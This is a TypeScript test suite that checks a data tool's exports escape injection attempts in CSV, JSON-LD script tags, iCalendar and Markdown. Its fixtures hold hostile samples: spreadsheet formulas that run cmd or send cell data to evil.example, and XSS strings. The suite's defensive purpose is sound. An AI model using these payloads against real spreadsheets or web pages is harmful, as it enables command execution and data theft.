import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { CORPUS_DIR } from './corpus.js';
import { expectClean, REPO_ROOT, runCli, smallDataset, tempDir } from './_lib/cli.js';
import { classify, csv, ical, schemaorg, validate as V } from './_lib/imports.js';

// Text that attacks what it is written into: spreadsheet formulas in CSV cells, </script> in
// JSON-LD bound for a web page, HTML in descriptions shown by the web app, CR/LF in calendar
// lines, pipes and line breaks in Markdown tables.

/** Splits RFC 4180 CSV into rows of cells (quotes undone). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = text.charCodeAt(0) === 0xfeff ? 1 : 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') i++;
      row.push(cell), rows.push(row), (row = []), (cell = '');
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) row.push(cell), rows.push(row);
  return rows;
}

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\'/C calc\'!A0', '\t=1+1', '\r=1+1', "'=already quoted", '=1+1'];

/** No cell a spreadsheet would run: nothing starting = + - @ TAB CR, except plain numbers. */
function expectNoFormula(rows: string[][]): void {
  for (const row of rows) for (const cell of row) if (/^[=+\-@\t\r]/.test(cell)) expect(cell, 'a cell a spreadsheet would run as a formula').toMatch(/^[+-]?\d+(?:\.\d+)?$/);
}

// A name refuses tabs and line breaks (NameSchema), so the formulas starting with TAB or CR go in
// descriptions only, where toCsv must still neutralise them; every other formula is a name too.
const controlled = (f: string) => /^[\t\r]/.test(f);

function formulaDataset() {
  const d = smallDataset();
  const names = [...FORMULAS];
  d.activities[0]!.name = names[0];
  d.activities[0]!.description = names.join(' ');
  d.places[0]!.name = names[3];
  d.organisations[0]!.name = names[2];
  d.activities.push(...FORMULAS.map((f, i) => ({ ...d.activities[0]!, id: `act-f${i}`, name: controlled(f) ? `Formula ${i}` : f, description: f })));
  return d;
}

describe('CSV formula injection', () => {
  it('toCsv writes every formula-looking cell as text, and fromCsv reads the text back', () => {
    const { value } = csv.toCsv(formulaDataset() as never);
    const rows = parseCsv(value);
    expect(rows.length).toBeGreaterThan(FORMULAS.length);
    expectNoFormula(rows);
    // The data itself is kept: the names come back (with the protective quote undone or kept, never run).
    const back = csv.fromCsv(value);
    const names = (back.value?.activities ?? []).map((a) => String(a.name).replace(/^'/, ''));
    for (const f of FORMULAS.filter((f) => !controlled(f))) expect(names).toContain(f.replace(/^'/, ''));
    // The TAB and CR formulas are descriptions: written as text, and read back.
    const descriptions = (back.value?.activities ?? []).map((a) => String(a.description));
    for (const f of FORMULAS.filter(controlled)) expect(descriptions.some((d) => d.includes(f.slice(1)))).toBe(true);
  });

  it('artsrx convert --to csv does the same', async () => {
    const dir = tempDir('csv');
    const file = join(dir, 'formulas.json');
    writeFileSync(file, JSON.stringify(formulaDataset()));
    const run = await runCli(['convert', file, '--to', 'csv']);
    expectClean(run, [0], 'convert --to csv');
    expectNoFormula(parseCsv(run.stdout));
  }, 60_000);
});

describe('</script> and HTML in text bound for a web page', () => {
  const NASTY = ['</script><script>alert(1)</script>', '</SCRIPT >', '<!--', '<script>', '-->', ']]>', '\u2028\u2029', '<img src=x onerror=alert(1)>', '&lt;/script&gt;', '\\u003c/script>'];

  it('toJsonLdScript: one script element, nothing in the data can close it or open a comment, and it reads back exactly', () => {
    for (const s of NASTY) {
      const doc = { '@context': 'https://schema.org', name: s, description: NASTY.join(' '), [s]: s };
      const html = schemaorg.toJsonLdScript(doc);
      expect(html.startsWith('<script type="application/ld+json">')).toBe(true);
      expect(html.endsWith('</script>')).toBe(true);
      const inner = html.slice('<script type="application/ld+json">'.length, -'</script>'.length);
      expect(inner).not.toMatch(/<\/script|<!--|<script|-->/i);
      expect(inner).not.toMatch(/[<>\u2028\u2029]/);
      expect(JSON.parse(inner)).toEqual(doc);
    }
  });

  it('toSchemaOrg + toJsonLdScript on an activity whose text is HTML', () => {
    const d = smallDataset();
    const activity = { ...d.activities[0]!, name: NASTY[0], description: NASTY.join(' ') };
    const { value } = schemaorg.toSchemaOrg({ ...activity } as never, { dataset: d } as never);
    const html = schemaorg.toJsonLdScript(value);
    expect(html.match(/<\/script/gi)).toHaveLength(1);
    expect(html).not.toContain('<img');
  });

  it('the web app puts data on the page only as text (no innerHTML, outerHTML, insertAdjacentHTML, document.write)', () => {
    const dir = join(REPO_ROOT, 'packages/web/src');
    const files: string[] = [];
    const walk = (d: string): void => {
      for (const n of readdirSync(d)) {
        const p = join(d, n);
        if (statSync(p).isDirectory()) walk(p);
        else if (/\.(ts|tsx|js)$/.test(p) && !p.includes('.test.')) files.push(p);
      }
    };
    walk(dir);
    expect(files.length).toBeGreaterThan(3);
    for (const f of files) expect(readFileSync(f, 'utf8'), f).not.toMatch(/\.innerHTML\s*=|\.outerHTML\s*=|insertAdjacentHTML|document\.write|\.srcdoc\s*=|new Function\(|\beval\(/);
  });
});

describe('line breaks and separators in text bound for line-based formats', () => {
  it('iCalendar: a name with CR/LF cannot start a new property or event', () => {
    const d = smallDataset();
    d.activities[0]!.name = 'Choir\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Injected\nX:1\rY:2';
    d.activities[0]!.description = 'a\\b;c,d\u0000\u001b[31m';
    const { value } = ical.toICalendar(d as never);
    const lines = value.split('\r\n');
    expect(lines.filter((l) => l === 'BEGIN:VEVENT')).toHaveLength(1);
    expect(lines.some((l) => l.startsWith('SUMMARY:Injected'))).toBe(false);
    expect(value).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/);
    expect(value.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
  });

  it('Markdown tables: pipes and line breaks in names do not add columns or rows', () => {
    const table = classify.toMarkdownTable([{ name: 'a | b\nc\r\n| d |', n: 1 }], [{ key: 'name', header: 'Name' }, { key: 'n', header: 'N' }] as never);
    const rows = table.trim().split('\n');
    expect(rows).toHaveLength(3);
    for (const row of rows) expect(row.replace(/\\\|/g, '').split('|')).toHaveLength(4);
  });

  it('validator reports in Markdown: a record id full of pipes and newlines stays in one table cell', () => {
    const d = smallDataset();
    d.activities[0]!.id = 'x | y\n# Heading\n| z';
    d.activities[0]!.placeId = 'missing | place\n';
    const md = V.formatMarkdown(V.validateDataset(d, { now: new Date('2026-05-01') }));
    expect(md).not.toMatch(/^# Heading/m);
  });

  it('text reports and listings printed by the CLI hold no control characters from the data', async () => {
    const file = join(CORPUS_DIR, 'control-chars.json');
    const runs = await Promise.all([runCli(['classify', file]), runCli(['occurrences', file, '--activity', 'act-1', '--from', '2026-05-01', '--count', '2']), runCli(['summary', file])]);
    for (const run of runs) {
      expectClean(run, [0, 1], 'listing');
      // Plain colour codes (ESC [ … m) may pass; no other control character, and CR only before LF.
      expect(run.stdout.replace(/\u001b\[[0-9;]*m/g, '')).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]|\r(?!\n)/);
    }
    expect(runs[0]!.stdout).toContain('\ufffd');
  }, 60_000);
});
